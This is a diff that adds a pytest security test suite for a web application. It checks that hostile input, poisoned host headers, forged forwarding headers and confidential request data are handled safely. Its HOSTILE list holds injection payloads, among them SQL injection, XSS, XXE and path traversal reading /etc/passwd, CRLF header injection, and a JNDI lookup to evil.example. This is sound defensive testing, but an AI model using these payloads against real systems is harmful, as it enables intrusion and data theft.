@@ -1,0 +1,139 @@
+"""SECURITY.md rows 7, 11, 13, 14 and 16, as far as the entrance itself is concerned."""
+
+from collections.abc import AsyncIterator
+from dataclasses import replace
+from ipaddress import ip_network
+from pathlib import Path
+from urllib.parse import quote
+
+import msgspec
+import pytest
+
+from entrypoints.bootstrap import Services
+from entrypoints.http.application import ROUTES, PosternApplication
+from entrypoints.http.endpoints import Endpoint, Endpoints, parameters
+from tests.conftest import CapturedLog
+from tests.http import examples
+from tests.http.client import Client
+from tests.http.conftest import NOWHERE, SETTINGS, services_on
+
+ALL = Endpoints([*ROUTES, *Endpoints.of(examples)])
+# They fail on purpose.
+BROKEN = {"/troubles/{kind}", "/slow/{kind}", "/caller", "/leak"}
+WALKED = [one for one in ALL if one.path not in BROKEN]
+
+HOSTILE = [
+    "' or 1=1 --",
+    '"; drop table users; --',
+    "%' escape '",
+    "<script>alert(1)</script>",
+    "{{7*7}}${7*7}",
+    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "line\r\nset-cookie: a=b\r\n\r\n<html>",
+    "log\n2026-11-20 [error] forged",
+    "\x00",
+    "\u202egnp.exe\u2066",
+    "\ufeff\u200b\uffff",
+    "\U0001f600" * 1000,
+    "../../../etc/passwd",
+    "${jndi:ldap://evil.example/a}",
+    "9" * 10_000,
+    "x" * 1_000_000,
+]
+
+
+@pytest.fixture
+async def lonely(tmp_path: Path) -> AsyncIterator[Services]:
+    async with services_on(NOWHERE, tmp_path) as opened:
+        yield opened
+
+
+@pytest.fixture
+def client(lonely: Services) -> Client:
+    return Client(PosternApplication(lonely, replace(SETTINGS, rate_limits=False), ALL))
+
+
+def path_with(one: Endpoint, text: str) -> str:
+    path = one.path
+    for name in parameters(one.path):
+        path = path.replace(f"{{{name}}}", quote(text, safe=""))
+    return path
+
+
+async def test_hostile_text_in_any_field_is_data_or_a_refusal_and_never_a_fault(client: Client, log: CapturedLog) -> None:
+    log.remember("set-cookie: a=b", "forged", "jndi")
+    for text in HOSTILE:
+        for one in WALKED:
+            fields = [field.encode_name for field in msgspec.structs.fields(one.query_type)] if one.query_type is not None else ["unknown"]
+            query = "&".join(f"{name}={quote(text)}" for name in fields)
+            body = None
+            if one.body_type is not None:
+                body = {field.encode_name: text for field in msgspec.structs.fields(one.body_type)} | {text: text, "email": text}
+            headers = [
+                (name, text.encode("utf-8", "replace").decode("latin-1")) for name in ("x-request-id", "user-agent", "authorization")
+            ]
+            for target in (one.path, f"{path_with(one, text)}?{query}"):
+                answer = await client.request(one.method, target, body=body, headers=headers)
+                # 503: what needs the database, which these tests do without.
+                assert answer.status < 500 or answer.status == 503, (str(one), text[:30], answer)
+                for name, value in answer.headers:
+                    assert not {"\r", "\n", "\0"} & set(name + value)
+                    assert "<script" not in value
+
+
+async def test_html_in_a_refused_request_comes_back_as_json_that_no_browser_runs(client: Client) -> None:
+    answer = await client.get("/orders?page=<script>alert(1)</script>")
+    assert (answer.status, answer.header("content-type")) == (400, "application/json")
+    assert answer.header("x-content-type-options") == "nosniff"
+    assert "default-src 'none'" in (answer.header("content-security-policy") or "")
+
+
+@pytest.mark.parametrize("target", ["/docs", "/openapi.json", "/", "/nothing-here", "/docs/", "/health/"])
+async def test_a_poisoned_host_reaches_no_answer(client: Client, target: str) -> None:
+    poisoned = [
+        ("host", "evil.example"),
+        ("x-forwarded-host", "evil.example"),
+        ("x-forwarded-proto", "gopher"),
+        ("x-forwarded-prefix", "/evil"),
+        ("x-original-url", "/evil"),
+        ("forwarded", "for=1.2.3.4;host=evil.example;proto=gopher"),
+    ]
+    answer = await client.get(target, headers=poisoned)
+    assert answer.status < 500
+    for text in (answer.body.decode(), *(value for _, value in answer.headers)):
+        assert "evil" not in text
+        assert "gopher" not in text
+
+
+async def test_no_page_redirects_to_where_the_host_header_says(client: Client) -> None:
+    async def folder() -> str:
+        return "here"
+
+    client.application.add_url_rule("/folder/", view_func=folder)
+    for target, status in (("/folder/", 200), ("/folder", 404), ("/docs/", 200), ("//evil.example/folder", 404)):
+        answer = await client.get(target, headers=[("host", "evil.example")])
+        assert (answer.status, answer.header("location")) == (status, None), target
+        assert b"evil" not in answer.body
+
+
+async def test_a_forged_forwarding_header_does_not_escape_the_limit(lonely: Services) -> None:
+    client = Client(PosternApplication(lonely, SETTINGS, ALL), "203.0.113.9")
+    statuses = [(await client.get("/limited", headers=[("x-forwarded-for", f"198.51.100.{number}")])).status for number in range(5)]
+    assert statuses == [200, 200, 200, 429, 429]
+
+
+async def test_behind_our_proxy_the_limit_is_the_clients_and_what_the_client_wrote_does_not_count(lonely: Services) -> None:
+    settings = replace(SETTINGS, trusted_proxies=(ip_network("10.0.0.0/8"),))
+    client = Client(PosternApplication(lonely, settings, ALL), "10.0.0.1")
+    forged = [(await client.get("/limited", headers=[("x-forwarded-for", f"1.1.1.{number}, 198.51.100.7")])).status for number in range(5)]
+    assert forged == [200, 200, 200, 429, 429]
+    assert (await client.get("/limited", headers=[("x-forwarded-for", "198.51.100.8")])).status == 200
+
+
+async def test_nothing_that_a_request_carries_in_confidence_reaches_the_log(client: Client, log: CapturedLog) -> None:
+    log.remember("confidential-token", "confidential-password", "confidential-query", "confidential-cookie", "person@example.org")
+    await client.get("/api/user?token=confidential-query", token="confidential-token")
+    await client.get("/api/user", headers=[("authorization", "Basic confidential-token"), ("cookie", "a=confidential-cookie")])
+    for body in ({"email": "person@example.org", "password": "confidential-password"}, {"email": 5, "password": "confidential-password"}):
+        await client.post("/sign-in", body)
+    assert log.events("request")
